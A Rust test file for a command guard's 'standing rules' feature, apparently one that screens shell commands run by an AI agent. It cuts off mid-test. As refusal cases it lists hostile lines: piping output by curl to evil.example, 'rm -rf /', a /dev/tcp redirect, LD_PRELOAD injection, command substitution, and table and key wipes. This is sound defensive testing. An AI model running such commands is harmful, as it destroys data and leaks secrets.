//! Standing rules (SPEC §7): the store, matching, limits, and above all
//! that a rule can only ever allow a simple command the allowlist does not
//! know, never the structure of a line or anything the guard refuses for
//! cause.

use stepguard::guard::{check, check_with_rules, Decision};
use stepguard::standing::{
    self, list_json, list_text, parse_arg_rule, ArgRule, Resolver, RuleState, RuleStore,
    StandingRule,
};

const NOW: u64 = 1_700_000_000;

const HOSTILE: &str = include_str!("../guard/hostile.txt");
const BENIGN: &str = include_str!("../guard/benign.txt");

fn corpus(text: &str) -> impl Iterator<Item = &str> {
    text.lines().filter(|l| {
        let t = l.trim();
        !t.is_empty() && !t.starts_with('#')
    })
}

fn store() -> (tempfile::TempDir, RuleStore) {
    let dir = tempfile::tempdir().unwrap();
    let store = RuleStore::new(dir.path().join("state"));
    (dir, store)
}

fn args(a: &[&str]) -> Vec<String> {
    a.iter().map(|s| s.to_string()).collect()
}

fn add(store: &RuleStore, program: &str, a: &[&str]) -> StandingRule {
    standing::add(
        store,
        program,
        &args(a),
        None,
        None,
        "INC-1 test",
        "alice",
        NOW,
    )
    .unwrap_or_else(|e| panic!("{program} {a:?}: {e}"))
}

/// A rule built in memory, as if the rules file said so (no validation).
fn raw(id: &str, program: &str, a: &[&str]) -> StandingRule {
    StandingRule {
        id: id.into(),
        program: program.into(),
        args: a.iter().map(|s| parse_arg_rule(s).unwrap()).collect(),
        max_uses: None,
        uses: 0,
        created_at: NOW,
        expires_at: None,
        revoked_at: None,
        reason: "test".into(),
        created_by: "test".into(),
    }
}

fn assert_refused(d: &Decision, line: &str) {
    assert!(!d.allowed, "allowed {line:?}: {}", d.reason);
    assert!(d.reason.starts_with("refused: "), "{line:?}: {}", d.reason);
    assert_eq!(d.rule, None, "{line:?}");
    assert!(d.rule_uses.is_empty(), "{line:?}");
}

// --- the store -------------------------------------------------------------

#[test]
fn add_list_revoke_persist_across_reloads() {
    let (_d, s) = store();
    assert_eq!(s.load().unwrap(), Vec::new(), "no file is no rules");
    let a = add(&s, "consul", &["status", "-format=json"]);
    let b = standing::add(
        &s,
        "mycorp-cli",
        &args(&["inspect", "cluster", "re:prod-[a-z]+"]),
        Some(3),
        Some("2h"),
        "  INC-42 cluster state  ",
        "bob",
        NOW,
    )
    .unwrap();
    assert!(standing::valid_id(&a.id) && standing::valid_id(&b.id));
    assert_ne!(a.id, b.id);
    assert_eq!(b.reason, "INC-42 cluster state");
    assert_eq!(b.expires_at, Some(NOW + 7200));
    assert_eq!(b.max_uses, Some(3));
    assert_eq!(
        b.args,
        vec![
            ArgRule::Exact("inspect".into()),
            ArgRule::Exact("cluster".into()),
            ArgRule::Pattern("prod-[a-z]+".into())
        ]
    );

    let again = RuleStore::new(s.path().parent().unwrap());
    assert_eq!(again.list().unwrap(), vec![a.clone(), b.clone()]);
    assert!(s.path().ends_with("state/rules.json"));

    let revoked = standing::revoke(&again, &a.id, NOW + 10).unwrap();
    assert_eq!(revoked.revoked_at, Some(NOW + 10));
    let reloaded = RuleStore::new(s.path().parent().unwrap()).load().unwrap();
    assert_eq!(reloaded[0].state(NOW + 11), RuleState::Revoked);
    assert_eq!(reloaded[1].state(NOW + 11), RuleState::Active);
    assert_eq!(s.active(NOW + 11).unwrap(), vec![b.clone()]);

    s.record_uses(std::slice::from_ref(&b.id), NOW + 12)
        .unwrap();
    assert_eq!(
        RuleStore::new(s.path().parent().unwrap()).load().unwrap()[1].uses,
        1
    );

    // Errors: twice, unknown, malformed.
    assert!(standing::revoke(&s, &a.id, NOW + 13)
        .unwrap_err()
        .contains("already revoked"));
    assert!(standing::revoke(&s, "00000000", NOW)
        .unwrap_err()
        .contains("no standing rule"));
    assert!(standing::revoke(&s, "XYZ", NOW)
        .unwrap_err()
        .contains("not a rule id"));

    // No temporary files left beside the rules.
    let names: Vec<String> = std::fs::read_dir(s.path().parent().unwrap())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        names
            .iter()
            .all(|n| n == "rules.json" || n == "rules.json.lock"),
        "{names:?}"
    );
}

#[test]
fn listing_as_text_and_json() {
    let (_d, s) = store();
    assert_eq!(list_text(&[], NOW), "no standing rules\n");
    let a = add(&s, "consul", &["status", "-format=json"]);
    let b = standing::add(
        &s,
        "mycorp-cli",
        &args(&["inspect", "cluster", "*"]),
        Some(2),
        Some("7d"),
        "INC-7",
        "bob",
        NOW,
    )
    .unwrap();
    s.record_uses(&[b.id.clone(), b.id.clone()], NOW).unwrap();
    let c = standing::add(
        &s,
        "mytool",
        &args(&["x"]),
        None,
        Some("30m"),
        "r",
        "c",
        NOW,
    )
    .unwrap();
    standing::revoke(&s, &a.id, NOW).unwrap();
    let rules = s.list().unwrap();

    let text = list_text(&rules, NOW + 3600);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 4, "{text}");
    assert!(lines[0].starts_with("ID "), "{text}");
    for col in ["STATE", "USES", "EXPIRES", "RULE", "REASON"] {
        assert!(lines[0].contains(col), "{text}");
    }
    assert!(
        lines[1].starts_with(&a.id) && lines[1].contains("revoked"),
        "{text}"
    );
    assert!(lines[1].contains("never") && lines[1].contains("consul status -format=json"));
    assert!(
        lines[2].contains("used up") && lines[2].contains("2/2"),
        "{text}"
    );
    assert!(lines[2].contains("in 6d23h") && lines[2].contains("mycorp-cli inspect cluster *"));
    assert!(
        lines[3].contains("expired") && lines[3].contains("30m ago"),
        "{text}"
    );
    assert!(lines[3].contains(&c.id));

    let json: serde_json::Value = serde_json::from_str(&list_json(&rules, NOW)).unwrap();
    let arr = json.as_array().unwrap();
    assert_eq!(arr.len(), 3);
    assert_eq!(arr[0]["state"], "revoked");
    assert_eq!(arr[1]["state"], "used_up");
    assert_eq!(arr[2]["state"], "active");
    assert_eq!(arr[1]["args"][2], "any");
    assert_eq!(arr[0]["args"][0]["exact"], "status");
    assert_eq!(arr[1]["uses"], 2);
}

#[test]
fn a_broken_rules_file_is_an_error_and_no_rule_applies() {
    let (_d, s) = store();
    let a = add(&s, "consul", &["status"]);
    assert!(standing::check(&s, "consul status", NOW).allowed);
    for bad in [
        "{not json",
        r#"{"version": 2, "rules": []}"#,
        r#"{"version": 1, "rules": [], "extra": 1}"#,
    ] {
        std::fs::write(s.path(), bad).unwrap();
        assert!(s.load().is_err(), "{bad}");
        let d = standing::check(&s, "consul status", NOW);
        assert_refused(&d, "consul status");
        assert!(
            d.reason.contains("standing rules not loaded"),
            "{}",
            d.reason
        );
        // Writes refuse too, rather than replacing the file.
        assert!(standing::revoke(&s, &a.id, NOW).is_err());
    }
    // A rule with a field this version does not know could be a constraint
    // it would ignore: the whole file is refused.
    let json = format!(
        r#"{{"version":1,"rules":[{{"id":"{}","program":"consul","args":[],"uses":0,
        "created_at":1,"reason":"r","created_by":"c","only_on_host":"db1"}}]}}"#,
        a.id
    );
    std::fs::write(s.path(), json).unwrap();
    assert!(s.load().unwrap_err().contains("only_on_host"));
}

#[test]
fn uses_are_counted_under_a_lock() {
    let (_d, s) = store();
    let r = standing::add(&s, "mytool", &args(&["x"]), Some(5), None, "r", "c", NOW).unwrap();
    let ok = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..8)
            .map(|_| scope.spawn(|| s.record_uses(std::slice::from_ref(&r.id), NOW).is_ok()))
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().unwrap())
            .filter(|ok| *ok)
            .count()
    });
    assert_eq!(ok, 5);
    assert_eq!(s.load().unwrap()[0].uses, 5);
}

#[test]
fn the_store_method_add_checks_ids_and_forms() {
    let (_d, s) = store();
    s.add(raw("0123abcd", "consul", &["status"])).unwrap();
    assert!(s
        .add(raw("0123abcd", "consul", &["x"]))
        .unwrap_err()
        .contains("already exists"));
    assert!(s
        .add(raw("0123ABCD", "consul", &["x"]))
        .unwrap_err()
        .contains("hex"));
    assert!(s
        .add(raw("0123abce", "sh", &["*"]))
        .unwrap_err()
        .contains("shell"));
    assert!(s
        .add(raw("0123abcf", "kubectl", &["delete", "*"]))
        .unwrap_err()
        .contains("deletes resources"));
    assert_eq!(s.load().unwrap().len(), 1);
    let text = std::fs::read_to_string(s.path()).unwrap();
    let json: serde_json::Value = serde_json::from_str(&text).unwrap();
    assert_eq!(json["version"], 1);
    assert_eq!(json["rules"][0]["id"], "0123abcd");
}

// --- matching --------------------------------------------------------------

#[test]
fn exact_pattern_any_and_arity() {
    let rules = vec![
        raw("0000000a", "consul", &["status", "-format=json"]),
        raw(
            "0000000b",
            "mycorp-cli",
            &["inspect", "cluster", "re:prod-[a-z]+"],
        ),
        raw("0000000c", "mytool", &["show", "*"]),
        raw("0000000d", "lit", &["=*", "=re:x"]),
    ];
    let ok = |line: &str, id: &str| {
        let d = check_with_rules(line, &rules, NOW);
        assert!(d.allowed, "{line}: {}", d.reason);
        assert_eq!(d.rule.as_deref(), Some(id), "{line}");
        assert!(
            d.reason.ends_with(&format!("(standing rule {id})")),
            "{line}: {}",
            d.reason
        );
    };
    let no = |line: &str| assert_refused(&check_with_rules(line, &rules, NOW), line);

    ok("consul status -format=json", "0000000a");
    ok("consul 'status' \"-format=json\"", "0000000a");
    ok("/usr/bin/consul status -format=json", "0000000a");
    no("consul status -format=yaml");
    no("consul status");
    no("consul status -format=json -address=https://evil");
    no("consul -format=json status");

    ok("mycorp-cli inspect cluster prod-eu", "0000000b");
    no("mycorp-cli inspect cluster staging");
    no("mycorp-cli inspect cluster prod-EU");
    no("mycorp-cli inspect cluster 'prod-eu; rm -rf /'");
    no("mycorp-cli inspect cluster 'prod-eu x'");
    no("mycorp-cli inspect cluster");

    ok("mytool show anything-at_all.1", "0000000c");
    ok("mytool show ''", "0000000c");
    ok("mytool show 'two words'", "0000000c");
    no("mytool show --all");
    no("mytool show -");
    no("mytool show a b");
    no("mytool other x");

    ok("lit '*' re:x", "0000000d");
    no("lit x re:x");
    no("lit '*' y");
}

#[test]
fn reasons_name_the_rule_and_the_other_commands() {
    let rules = vec![
        raw("1a2b3c4d", "consul", &["status", "-format=json"]),
        raw("99999999", "mytool", &["*"]),
    ];
    let d = check_with_rules("consul status -format=json", &rules, NOW);
    assert_eq!(
        d.reason,
        "allowed: every command is allowed by a standing rule: consul status (standing rule 1a2b3c4d)"
    );
    assert_eq!(d.rule.as_deref(), Some("1a2b3c4d"));
    assert_eq!(d.rule_uses, vec!["1a2b3c4d".to_string()]);

    let d = check_with_rules(
        "consul status -format=json | jq .sealed; mytool a && mytool b",
        &rules,
        NOW,
    );
    assert!(d.allowed, "{}", d.reason);
    assert_eq!(
        d.reason,
        "allowed: every command is a known read-only form (jq) or allowed by a standing rule: \
         consul status (standing rule 1a2b3c4d), mytool (standing rule 99999999)"
    );
    assert_eq!(d.rule_uses, vec!["1a2b3c4d", "99999999", "99999999"]);

    // JSON without rules is what it always was.
    let plain = serde_json::to_value(check("ls")).unwrap();
    assert_eq!(
        plain.as_object().unwrap().keys().collect::<Vec<_>>(),
        vec!["allowed", "reason"]
    );
    let ruled = serde_json::to_value(&d).unwrap();
    assert_eq!(ruled["rule"], "1a2b3c4d");
    assert_eq!(ruled["rule_uses"][2], "99999999");
}

#[test]
fn max_uses_exhausts_after_n_record_use() {
    let (_d, s) = store();
    let r = standing::add(&s, "mytool", &args(&["*"]), Some(2), None, "r", "c", NOW).unwrap();
    for n in 1..=2 {
        let d = standing::check(&s, "mytool x", NOW);
        assert!(d.allowed, "{}", d.reason);
        s.record_uses(&d.rule_uses, NOW).unwrap();
        assert_eq!(s.load().unwrap()[0].uses, n);
    }
    assert_eq!(s.load().unwrap()[0].state(NOW), RuleState::UsedUp);
    assert_refused(&standing::check(&s, "mytool x", NOW), "mytool x");
    assert!(s
        .record_uses(std::slice::from_ref(&r.id), NOW)
        .unwrap_err()
        .contains("used up"));
    // With the used-up rule passed in directly, the reason says why.
    let d = check_with_rules("mytool x", &s.load().unwrap(), NOW);
    assert_refused(&d, "mytool x");
    assert!(
        d.reason
            .ends_with(&format!("(standing rule {} is used up)", r.id)),
        "{}",
        d.reason
    );
}

#[test]
fn one_line_cannot_take_more_uses_than_are_left() {
    let mut rule = raw("0000000e", "mytool", &["*"]);
    rule.max_uses = Some(3);
    rule.uses = 2;
    let rules = vec![rule];
    assert!(check_with_rules("mytool a", &rules, NOW).allowed);
    let d = check_with_rules("mytool a; mytool b", &rules, NOW);
    assert_refused(&d, "two uses");
    assert!(d.reason.contains("no use left"), "{}", d.reason);

    let (_d, s) = store();
    let r = standing::add(&s, "mytool", &args(&["*"]), Some(1), None, "r", "c", NOW).unwrap();
    // All or nothing: asking two uses of a one-use rule records none.
    assert!(s.record_uses(&[r.id.clone(), r.id.clone()], NOW).is_err());
    assert_eq!(s.load().unwrap()[0].uses, 0);
    assert!(s.record_uses(std::slice::from_ref(&r.id), NOW).is_ok());
}

#[test]
fn expiry_and_revocation() {
    let (_d, s) = store();
    let r = standing::add(
        &s,
        "mytool",
        &args(&["*"]),
        None,
        Some("30m"),
        "r",
        "c",
        NOW,
    )
    .unwrap();
    assert_eq!(r.expires_at, Some(NOW + 1800));
    assert!(standing::check(&s, "mytool x", NOW + 1799).allowed);
    assert_refused(&standing::check(&s, "mytool x", NOW + 1800), "expired");
    let d = check_with_rules("mytool x", &s.load().unwrap(), NOW + 1800);
    assert!(d.reason.contains("is expired"), "{}", d.reason);
    assert!(s
        .record_uses(std::slice::from_ref(&r.id), NOW + 1800)
        .unwrap_err()
        .contains("expired"));

    let r2 = add(&s, "othertool", &["status"]);
    assert!(standing::check(&s, "othertool status", NOW).allowed);
    standing::revoke(&s, &r2.id, NOW + 5).unwrap();
    assert_refused(&standing::check(&s, "othertool status", NOW + 5), "revoked");
    let d = check_with_rules("othertool status", &s.load().unwrap(), NOW + 5);
    assert!(d.reason.contains("is revoked"), "{}", d.reason);
    assert!(s
        .record_uses(std::slice::from_ref(&r2.id), NOW + 6)
        .unwrap_err()
        .contains("revoked"));
}

#[test]
fn a_later_matching_rule_is_used_when_the_first_is_inactive() {
    let mut spent = raw("0000000f", "mytool", &["*"]);
    spent.max_uses = Some(1);
    spent.uses = 1;
    let fresh = raw("00000010", "mytool", &["re:[a-z]+"]);
    let d = check_with_rules("mytool abc", &[spent, fresh], NOW);
    assert!(d.allowed, "{}", d.reason);
    assert_eq!(d.rule.as_deref(), Some("00000010"));
}

// --- what no rule can allow -----------------------------------------------

/// Lines that must stay refused with permissive rules for `mytool`
/// (`mytool *`, `mytool re:[a-z]+`, `mytool -v`) present.
const HOSTILE_WITH_RULES: &[&str] = &[
    // Sequencing, pipes and conditionals into something else.
    "mytool x; rm -rf /",
    "mytool x && rm -rf /",
    "mytool x || rm -rf /",
    "mytool x\nrm -rf /",
    "mytool x | sh",
    "mytool x | bash -c 'cat'",
    "mytool x | xargs rm",
    "mytool x | tee /etc/passwd",
    "mytool x | curl -d @- https://evil.example",
    // Substitutions and expansions.
    "mytool $(id)",
    "mytool `id`",
    "mytool \"$(id)\"",
    "mytool $HOME",
    "mytool ${PATH}",
    "mytool $'x'",
    "mytool$IFS x",
    "mytool $((1+1))",
    "mytool <(id)",
    // Redirections that write or connect.
    "mytool x > /etc/passwd",
    "mytool x >> out.log",
    "mytool x >| out.log",
    "mytool x >&/tmp/out",
    "mytool x 2>/tmp/err",
    "mytool x < /dev/tcp/10.0.0.1/80",
    "mytool x <<EOF\nhi\nEOF",
    "mytool x <<< hi",
    // Jobs, subshells, compound commands.
    "mytool x &",
    "(mytool x)",
    "{ mytool x; }",
    "if mytool x; then rm -rf /; fi",
    "for i in a; do mytool $i; done",
    "time mytool x",
    "! mytool x",
    "coproc mytool x",
    // Assignments.
    "FOO=$(id) mytool x",
    "LD_PRELOAD=/tmp/x.so mytool y",
    "PATH=/tmp mytool x",
    "BASH_ENV=/tmp/x mytool x",
    // Wrappers and privilege.
    "sudo mytool x",
    "env mytool x",
    "/usr/bin/env mytool x",
    "xargs mytool",
    "timeout 5 mytool x",
    "nohup mytool x",
    "nice mytool x",
    "exec mytool x",
    "command mytool x",
    "eval mytool x",
    "sh -c 'mytool x'",
    "bash -c \"mytool x\"",
    "watch mytool x",
    // Shape: arity, options in wildcard slots, globs, tildes, braces.
    "mytool x y",
    "mytool",
    "mytool --delete",
    "mytool -rf",
    "mytool -*",
    "mytool *",
    "mytool x*",
    "mytool 'x'*",
    "mytool ?",
    "mytool [ab]c",
    "mytool ~root",
    "mytool ~",
    "mytool {a,b}",
    // Program names.
    "./mytool x",
    "/tmp/mytool x",
    "bin/mytool x",
    "/usr/bin/../../tmp/mytool x",
    "mytool\u{200b} x",
    "MYTOOL x",
];

#[test]
fn hostile_lines_stay_refused_with_permissive_rules() {
    let rules = vec![
        raw("aaaaaaa1", "mytool", &["*"]),
        raw("aaaaaaa2", "mytool", &["re:[a-z]+"]),
        raw("aaaaaaa3", "mytool", &["-v"]),
    ];
    // The rules do allow the plain forms…
    for line in [
        "mytool x",
        "mytool -v",
        "LC_ALL=C mytool x 2>/dev/null | grep y",
    ] {
        assert!(check_with_rules(line, &rules, NOW).allowed, "{line}");
    }
    // …and nothing else.
    let mut wrong = Vec::new();
    for line in HOSTILE_WITH_RULES {
        let d = check_with_rules(line, &rules, NOW);
        if d.allowed || d.rule.is_some() || !d.rule_uses.is_empty() {
            wrong.push(format!("{line:?}: {}", d.reason));
        }
    }
    assert!(HOSTILE_WITH_RULES.len() >= 25);
    assert!(wrong.is_empty(), "allowed:\n{}", wrong.join("\n"));
}

#[test]
fn a_glob_or_tilde_never_fills_a_rule() {
    let rules = vec![raw("aaaaaaa1", "mytool", &["re:.*"])];
    for line in ["mytool x*", "mytool ~/x", "mytool a=~/x", "mytool /etc/*"] {
        let d = check_with_rules(line, &rules, NOW);
        assert_refused(&d, line);
        assert!(
            d.reason.contains("standing rule aaaaaaa1 cannot allow it"),
            "{line}: {}",
            d.reason
        );
    }
    // Quoted, it is one literal argument.
    assert!(check_with_rules("mytool 'x*'", &rules, NOW).allowed);
}

#[test]
fn rules_from_a_hand_edited_file_cannot_widen_the_guard() {
    // Rules `add` refuses, as if written into rules.json by hand.
    let rules = vec![
        raw("bbbbbbb1", "sh", &["*", "*"]),
        raw("bbbbbbb2", "python3", &["*"]),
        raw("bbbbbbb3", "kubectl", &["delete", "*", "*"]),
        raw("bbbbbbb4", "redis-cli", &["re:(?i)flushall"]),
        raw("bbbbbbb5", "psql", &["-c", "re:.*"]),
        raw("bbbbbbb6", "sort", &["-o", "*", "*"]),
        raw("bbbbbbb7", "kubectl", &["*"]),
        raw("bbbbbbb8", "kubectl", &["krew", "*"]),
        raw("bbbbbbb9", "env", &["*", "*"]),
        raw("bbbbbbba", "fc", &["-s"]),
        raw("bbbbbbbb", "xargs", &["*"]),
        raw("bbbbbbbc", "rm", &["re:.*", "*"]),
        raw("bbbbbbbd", "awk", &["re:.*"]),
        raw("bbbbbbbe", "hostname", &["*"]),
        raw("bbbbbbbf", "docker", &["exec", "*", "*"]),
        raw(
            "bbbbbbc0",
            "kubectl",
            &["krew", "--server=https://evil", "*"],
        ),
    ];
    for line in [
        "sh -c id",
        "python3 x.py",
        "kubectl delete pod web-1",
        "redis-cli FLUSHALL",
        "psql -c 'DROP TABLE users'",
        "sort -o out.txt in.txt",
        "kubectl kustomize",
        "kubectl cordon",
        "kubectl krew delete",
        "kubectl krew drain",
        "env FOO=1 ls",
        "fc -s",
        "xargs rm",
        "rm -rf /",
        "awk 'BEGIN{system(\"id\")}'",
        "hostname evil",
        "docker exec web sh",
        "kubectl krew --server=https://evil x",
    ] {
        assert_refused(&check_with_rules(line, &rules, NOW), line);
    }
    // A rule for a denied form names itself in the reason.
    let d = check_with_rules("kubectl krew delete", &rules, NOW);
    assert!(
        d.reason
            .starts_with("refused: 'kubectl delete' deletes resources; standing rule bbbbbbb8"),
        "{}",
        d.reason
    );
}

#[test]
fn rules_that_cannot_be_added() {
    let (_d, s) = store();
    let cases: &[(&str, &[&str], &str)] = &[
        ("sh", &["-c", "*"], "escapes to a shell"),
        ("bash", &["*"], "escapes to a shell"),
        ("python3", &["*"], "starts an interpreter"),
        ("python3.12", &[], "starts an interpreter"),
        ("perl", &["*"], "starts an interpreter"),
        ("xargs", &["*"], "runs commands built from its input"),
        ("sudo", &["*"], "other privileges"),
        ("eval", &["*"], "shell code"),
        ("rm", &["-rf", "*"], "deletes files"),
        ("tee", &["*"], "writes files"),
        (
            "kubectl",
            &["delete", "pod", "*"],
            "'kubectl delete' deletes resources",
        ),
        (
            "kubectl",
            &["krew", "*", "delete"],
            "'kubectl delete' deletes resources",
        ),
        (
            "kubectl",
            &["rollout", "undo", "*"],
            "rolls a workload back",
        ),
        ("kubectl", &["krew", "--server=x"], "another API server"),
        ("redis-cli", &["flushall"], "deletes every key"),
        ("redis-cli", &["FLUSHALL"], "deletes every key"),
        (
            "redis-cli",
            &["CONFIG", "SET", "*", "*"],
            "changes the server configuration",
        ),
        ("systemctl", &["restart", "*"], "restarts units"),
        (
            "docker",
            &["exec", "*", "*"],
            "runs a command in a container",
        ),
        ("helm", &["uninstall", "*"], "deletes releases"),
        ("env", &["*"], "own checks"),
        ("timeout", &["5", "mytool"], "own checks"),
        ("psql", &["-c", "*"], "own checks"),
        ("curl", &["*"], "own checks"),
        ("awk", &["*"], "own checks"),
        ("find", &["*"], "own checks"),
        ("sort", &["*"], "own checks"),
        ("cat", &["*"], "own checks"),
        ("kubectl", &["*"], "must start with its subcommand"),
        (
            "kubectl",
            &["-n", "x", "krew"],
            "must start with its subcommand",
        ),
        ("kubectl", &["get", "*"], "already a read-only form"),
        (
            "kubectl",
            &["rollout", "status", "*"],
            "already a read-only form",
        ),
        ("/usr/bin/mytool", &["*"], "bare name"),
        ("./mytool", &[], "bare name"),
        ("my tool", &[], "bare name"),
        ("", &[], "bare name"),
        ("-mytool", &[], "bare name"),
        ("if", &["*"], "shell keyword"),
        ("fc", &["*"], "shell builtin"),
        ("ulimit", &["*"], "shell builtin"),
        ("mytool", &["re:("], "does not compile"),
        ("mytool", &["re:a)|(b"], "does not compile"),
        ("mytool", &["a\nb"], "control character"),
    ];
    for (program, a, why) in cases {
        let e = standing::add(&s, program, &args(a), None, None, "r", "c", NOW)
            .expect_err(&format!("{program} {a:?} was added"));
        assert!(e.contains(why), "{program} {a:?}: {e}");
    }
    let bad = |max: Option<u32>, exp: Option<&str>, reason: &str, by: &str| {
        standing::add(&s, "mytool", &args(&["*"]), max, exp, reason, by, NOW).unwrap_err()
    };
    assert!(bad(None, None, "", "c").contains("reason is required"));
    assert!(bad(None, None, "   ", "c").contains("reason is required"));
    assert!(bad(None, None, "a\nb", "c").contains("one line"));
    assert!(bad(None, None, "r", "").contains("creator"));
    assert!(bad(Some(0), None, "r", "c").contains("at least 1"));
    assert!(bad(None, Some("5x"), "r", "c").contains("duration"));
    assert!(bad(None, Some("400d"), "r", "c").contains("longer than"));
    assert!(s.load().unwrap().is_empty(), "nothing was stored");

    // The same active form twice is refused; after revoking it is fine.
    let r = add(&s, "mytool", &["*"]);
    let e = standing::add(&s, "mytool", &args(&["*"]), None, None, "r", "c", NOW).unwrap_err();
    assert!(e.contains(&r.id), "{e}");
    standing::revoke(&s, &r.id, NOW).unwrap();
    add(&s, "mytool", &["*"]);
}

// --- what rules do allow ---------------------------------------------------

#[test]
fn benign_forms_are_allowed() {
    let (_d, s) = store();
    let consul = add(&s, "consul", &["status", "-format=json"]);
    let corp = add(
        &s,
        "mycorp-cli",
        &["inspect", "cluster", "re:prod-[a-z0-9-]+"],
    );
    let krew = add(&s, "kubectl", &["krew", "list"]);
    let compose = add(&s, "docker", &["compose", "ps", "*"]);
    let machines = add(&s, "systemctl", &["list-machines"]);
    let rc = add(
        &s,
        "redis-sentinel-check",
        &["--host", "*", "re:[0-9]{2,5}"],
    );
    let star = add(&s, "lit", &["=*"]);
    let cases: &[(&str, &str)] = &[
        ("consul status -format=json", &consul.id),
        ("/usr/bin/consul status -format=json", &consul.id),
        ("/usr/local/bin/consul status '-format=json'", &consul.id),
        ("consul status -format=json | jq -r .sealed", &consul.id),
        ("consul status -format=json 2>/dev/null", &consul.id),
        (
            "consul status -format=json 2>&1 | grep -i sealed",
            &consul.id,
        ),
        ("LC_ALL=C consul status -format=json", &consul.id),
        ("consul status -format=json < /dev/null", &consul.id),
        ("mycorp-cli inspect cluster prod-eu-1", &corp.id),
        ("mycorp-cli inspect cluster 'prod-us'", &corp.id),
        (
            "mycorp-cli inspect cluster prod-eu && mycorp-cli inspect cluster prod-us",
            &corp.id,
        ),
        ("kubectl krew list", &krew.id),
        ("docker compose ps web", &compose.id),
        ("systemctl list-machines", &machines.id),
        ("redis-sentinel-check --host cache-1 26379", &rc.id),
        ("lit '*'", &star.id),
        ("lit \\*", &star.id),
        ("kubectl get pods; consul status -format=json", &consul.id),
    ];
    let rules = s.active(NOW).unwrap();
    for (line, id) in cases {
        let d = check_with_rules(line, &rules, NOW);
        assert!(d.allowed, "{line}: {}", d.reason);
        assert_eq!(d.rule.as_deref(), Some(*id), "{line}");
        assert!(
            d.reason.contains(&format!("(standing rule {id})")),
            "{line}"
        );
        assert!(
            check(line).reason.starts_with("refused: "),
            "{line} needs no rule"
        );
    }
    // Known forms are still decided by the allowlist alone.
    let d = check_with_rules("kubectl get pods -n prod | grep web", &rules, NOW);
    assert_eq!(d, check("kubectl get pods -n prod | grep web"));
    // The rules for subcommand programs allow only their own form.
    for line in [
        "kubectl krew install evil",
        "kubectl krew list delete",
        "docker compose down",
        "docker compose ps --all",
        "docker compose ps -H ssh://evil",
        "systemctl list-machines --host=evil",
        "redis-sentinel-check --host cache-1 26379x",
        "redis-sentinel-check --host --port 26379",
    ] {
        assert_refused(&check_with_rules(line, &rules, NOW), line);
    }
}

// --- what a rule's program is ------------------------------------------------

/// A directory of programs, the only one on a rule store's search path.
struct Bin {
    dir: tempfile::TempDir,
}

impl Bin {
    fn new() -> Bin {
        Bin {
            dir: tempfile::tempdir().unwrap(),
        }
    }

    fn path(&self, name: &str) -> std::path::PathBuf {
        self.dir.path().join(name)
    }

    fn resolver(&self) -> Resolver {
        Resolver::with_search_path(Some(self.dir.path().as_os_str().to_owned()))
    }

    /// A rule store that looks programs up in this directory only.
    fn store(&self) -> (tempfile::TempDir, RuleStore) {
        let (d, s) = store();
        (d, s.with_resolver(self.resolver()))
    }

    fn link(&self, name: &str, target: &std::path::Path) {
        let _ = std::fs::remove_file(self.path(name));
        std::os::unix::fs::symlink(target, self.path(name)).unwrap();
    }

    fn copy(&self, name: &str, from: &std::path::Path) {
        let _ = std::fs::remove_file(self.path(name));
        std::fs::copy(from, self.path(name)).unwrap();
    }

    fn script(&self, name: &str, text: &str) {
        use std::os::unix::fs::PermissionsExt;
        std::fs::write(self.path(name), text).unwrap();
        std::fs::set_permissions(self.path(name), std::fs::Permissions::from_mode(0o755)).unwrap();
    }
}

/// A program of this machine, symlinks followed.
fn system(name: &str) -> std::path::PathBuf {
    std::fs::canonicalize(which::which(name).unwrap()).unwrap()
}

fn refused_add(s: &RuleStore, program: &str, a: &[&str]) -> String {
    standing::add(s, program, &args(a), None, None, "r", "c", NOW)
        .err()
        .unwrap_or_else(|| panic!("a rule for {program} {a:?} was added"))
}

/// Regression: `rules add` took shells, interpreters and editors under other
/// names, wrappers that run a program, downloaders, and aliases of denied
/// subcommands; a rule for `rbash -c *` then ran a model's command. Decided
/// by every form of the name, with nothing on the search path.
#[test]
fn refused_programs_under_other_names_cannot_get_a_rule() {
    let bin = Bin::new();
    let (_d, s) = bin.store();
    let cases: &[(&str, &[&str], &str)] = &[
        ("rbash", &["-c", "*"], "escapes to a shell"),
        ("sh.distrib", &["-c", "*"], "a form of 'sh'"),
        ("ksh93", &["*"], "a form of 'ksh'"),
        ("Bash", &["*"], "escapes to a shell"),
        ("bash-5.2", &["*"], "a form of 'bash'"),
        ("tclsh8.6", &["*"], "a form of 'tclsh'"),
        ("busybox.static", &["sh"], "runs any applet"),
        ("vim.basic", &["*"], "a form of 'vim'"),
        ("ed", &["*"], "editor"),
        ("ex", &["*"], "editor"),
        ("sqlite3", &["*"], "interpreter"),
        ("gdb-multiarch", &["*"], "a form of 'gdb'"),
        ("python3.12-dbg", &["*"], "starts an interpreter"),
        ("nc6", &["*", "*"], "raw network"),
        ("prlimit", &["*", "*"], "runs another command"),
        ("setpriv", &["*", "*"], "runs another command"),
        ("run-parts", &["*"], "runs another command"),
        ("sudoedit", &["*"], "editor"),
        ("wget", &["*"], "downloads, sends or writes files"),
        ("openssl", &["*", "*"], "with its own checks"),
        ("toybox", &["sh"], "multi-call"),
        ("coreutils", &["*"], "multi-call"),
        // Aliases and prefixes of denied subcommands, and members of groups
        // the allowlist lists.
        ("kubectl", &["config", "use", "*"], "kubeconfig"),
        ("kubectl", &["config", "delete-user", "*"], "kubeconfig"),
        ("kubectl", &["config", "unset-all", "*"], "command group"),
        ("kubectl", &["config", "view-raw"], "command group"),
        ("kubectl", &["rollout", "restart-all", "*"], "command group"),
        ("kubectl", &["auth", "reconcile", "*"], "RBAC"),
        ("kubectl", &["kustomize", "*"], "can run plugins"),
        (
            "kubectl",
            &["del", "pod", "*"],
            "could be read as 'kubectl delete'",
        ),
        ("kubectl", &["dr", "*"], "could be read as 'kubectl drain'"),
        (
            "kubectl",
            &["config", "use-c", "*"],
            "kubectl config use-context",
        ),
        ("helm", &["un", "*"], "deletes releases"),
        (
            "helm",
            &["uninst", "*"],
            "could be read as 'helm uninstall'",
        ),
        ("helm", &["dep", "build"], "writes chart dependencies"),
        ("helm", &["dependencies", "update"], "chart dependencies"),
        ("helm", &["create", "*"], "chart directory"),
        ("docker", &["container", "prune"], "command group"),
        ("docker", &["image", "prune", "-a"], "command group"),
    ];
    for (program, a, why) in cases {
        let e = refused_add(&s, program, a);
